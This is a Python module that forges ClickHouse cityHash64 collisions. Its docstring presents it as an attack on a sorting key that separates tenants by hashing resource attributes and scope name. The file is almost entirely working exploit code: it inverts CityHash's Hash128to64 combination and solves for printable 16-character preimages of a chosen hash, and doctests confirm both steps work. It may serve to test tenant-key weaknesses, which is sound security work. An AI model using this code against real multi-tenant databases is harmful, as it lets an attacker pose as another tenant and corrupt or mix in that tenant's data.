"""Forging ClickHouse ``cityHash64`` collisions (CityHash v1.0.2, as the engine has it): the attack on
a sorting key that tells tenants apart by ``cityHash64(ResourceAttributes, ScopeName)``.

The engine hashes several arguments as ``combine(hash(first), hash(second))`` with CityHash's
``Hash128to64``. Given the attacker's own resource hash ``lo`` and the victim's key hash, the
scope hash that completes the collision is found bit by bit (:func:`second_halves`), and a
16-character scope name with that hash by inverting CityHash of 16 bytes (:func:`preimage16`):
both take milliseconds. tests/test_tenant_keys.py checks the result on the engine itself.

>>> hi = second_halves(12345, 67890)[0]
>>> hash128to64(12345, hi)
67890
>>> name = preimage16(0xDEADBEEF, random.Random(1))
>>> len(name), city64_16(name.encode()) == 0xDEADBEEF
(16, True)
"""

from __future__ import annotations

import random

import numpy as np

MASK = (1 << 64) - 1
K_MUL = 0x9DDFEA08EB382D69
K_INV = pow(K_MUL, -1, 1 << 64)


def _shift47(x: int) -> int:
    return x ^ (x >> 47)  # its own inverse on 64 bits


def hash128to64(lo: int, hi: int) -> int:
    """CityHash's ``Hash128to64(uint128(lo, hi))``: the engine's combination of two hashes."""
    a = _shift47(((lo ^ hi) * K_MUL) & MASK)
    return (_shift47(((hi ^ a) * K_MUL) & MASK) * K_MUL) & MASK


def _rotate(v: int, shift: int) -> int:
    return ((v >> shift) | (v << (64 - shift))) & MASK


def city64_16(s: bytes) -> int:
    """CityHash64 v1.0.2 of exactly 16 bytes."""
    a, b = int.from_bytes(s[:8], "little"), int.from_bytes(s[8:], "little")
    return hash128to64(a, _rotate((b + 16) & MASK, 16)) ^ b


def second_halves(lo: int, target: int) -> list[int]:
    """Every ``hi`` with ``hash128to64(lo, hi) == target``.

    With ``y = lo ^ hi`` the equation is ``y ^ shift47(y * K) = d``; its bit ``i >= 17`` does not
    depend on bit ``i`` of ``y`` (K is odd), so it fixes a condition on the lower bits: walk the
    bits upward from every choice of the lowest 17, keeping the candidates that satisfy them."""
    d = _shift47((target * K_INV) & MASK) * K_INV & MASK ^ lo
    k, one = np.uint64(K_MUL), np.uint64(1)
    candidates = np.arange(1 << 17, dtype=np.uint64)
    with np.errstate(over="ignore"):
        for i in range(17, 64):
            bit = ((candidates ^ candidates * k) >> np.uint64(i)) & one
            candidates = candidates[bit == np.uint64((d >> i) & 1)]
            if i < 63:
                candidates = np.concatenate([candidates, candidates | np.uint64(1 << i)])
        z = candidates * k
        solutions = candidates[(candidates ^ z ^ (z >> np.uint64(47))) == np.uint64(d)]
    return [int(y) ^ lo for y in solutions]


def preimage16(h: int, rng: random.Random) -> str:
    """A 16-character printable ASCII string whose CityHash64 is ``h``: the last 8 bytes at random,
    the first 8 solved for, until they are printable too (about one try in 3,000)."""
    while True:
        tail = bytes(rng.randrange(0x21, 0x7F) for _ in range(8))
        b = int.from_bytes(tail, "little")
        v = _rotate((b + 16) & MASK, 16)
        a1 = _shift47(_shift47(((h ^ b) * K_INV) & MASK) * K_INV & MASK ^ v)
        head = (((a1 * K_INV) & MASK) ^ v).to_bytes(8, "little")
        if all(0x21 <= c < 0x7F for c in head):
            return (head + tail).decode()
